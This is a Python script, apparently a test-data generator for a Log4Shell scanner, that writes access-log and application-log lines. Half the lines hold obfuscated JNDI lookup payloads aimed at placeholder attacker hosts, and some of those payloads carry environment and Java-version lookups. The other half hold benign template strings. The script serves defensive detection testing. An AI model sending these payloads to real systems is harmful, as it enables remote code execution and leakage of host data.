#!/usr/bin/env python3
"""mkdense.py OUT MB - attack-dense log text: every line carries "${",
as third-party payload lists and scanners' request logs do.  Half the
lines are Log4Shell payloads of every obfuscation family (nested
${lower:}/${upper:}, ${::-x}, ${env:NaN:-x}, ${date:}, URL-encoded,
in headers and query strings), half benign templates (${user.home},
${project.version}, shell-style ${HOME:-/tmp}, ${sys:...}).  Prints the
number of attack lines.  Deterministic (seeded)."""
import random, sys

out, mb = sys.argv[1], int(sys.argv[2])
random.seed(11)


def obf(word):
    """each letter hidden one of the ways payload lists use"""
    r = []
    for ch in word:
        k = random.randint(0, 6)
        if k == 0:
            r.append('${::-%s}' % ch)
        elif k == 1:
            r.append('${lower:%s}' % ch.upper())
        elif k == 2:
            r.append('${upper:%s}' % ch)
        elif k == 3:
            r.append('${env:NaN:-%s}' % ch)
        elif k == 4:
            r.append('${date:\'%s\'}' % ch)
        else:
            r.append(ch)
    return ''.join(r)


def attack(i):
    host = 'c%d.attacker%d.example' % (i % 5000, i % 13)
    proto = random.choice(['ldap', 'rmi', 'dns', 'ldaps', 'iiop', 'http'])
    form = random.randint(0, 5)
    if form == 0:
        return '${jndi:%s://%s/a}' % (proto, host)
    if form == 1:
        return '${%s:%s://%s/%s}' % (obf('jndi'), obf(proto), host, obf('Exploit'))
    if form == 2:
        return '${${::-j}${::-n}${::-d}${::-i}:${::-%s}%s://%s/a}' % (proto[0], proto[1:], host)
    if form == 3:
        return '${jndi:%s://%s/${env:USER}/${sys:java.version}}' % (proto, host)
    if form == 4:
        return '%%24%%7Bjndi%%3A%s%%3A%%2F%%2F%s%%2Fa%%7D' % (proto, host)
    return '${${lower:j}${upper:n}${lower:d}${upper:i}:%s://%s/${hostName}}' % (proto, host)


BENIGN = ['${user.home}/.cache', '${project.version}', '${HOME:-/tmp}/x', '${sys:java.version}',
          'Hello ${name}, your order ${order.id} shipped', '${env:PATH}', '${ctx:loginId}',
          '${spring.datasource.url}', '${date:yyyy-MM-dd}', '${java:runtime}', '${main:0}',
          'price ${amount} ${currency}', '${{ secrets.TOKEN }}', '$${escaped}', '${unclosed']

target = mb << 20
size = n = attacks = 0
with open(out, 'w') as f:
    while size < target:
        ip = '10.%d.%d.%d' % (n % 250, (n // 250) % 250, n % 7 + 1)
        if n % 2 == 0:
            p = attack(n)
            attacks += 1
            where = random.randint(0, 3)
            if where == 0:
                l = p + '\n'   # a bare payload list line
            elif where == 1:
                l = '%s - - [11/Dec/2021:10:00:%02d +0000] "GET /?q=%s HTTP/1.1" 200 5 "-" "curl/7.0"\n' % (ip, n % 60, p)
            elif where == 2:
                l = '%s - - [11/Dec/2021:10:00:%02d +0000] "GET / HTTP/1.1" 200 5 "-" "%s"\n' % (ip, n % 60, p)
            else:
                l = '2021-12-11 10:00:%02d WARN [http-nio-8080] X-Api-Version: %s\n' % (n % 60, p)
        else:
            t = ' '.join(random.choice(BENIGN) for _ in range(random.randint(1, 4)))
            l = '2021-12-11 10:00:%02d INFO [main] c.e.App - config %s\n' % (n % 60, t)
        f.write(l)
        size += len(l)
        n += 1
print(attacks)
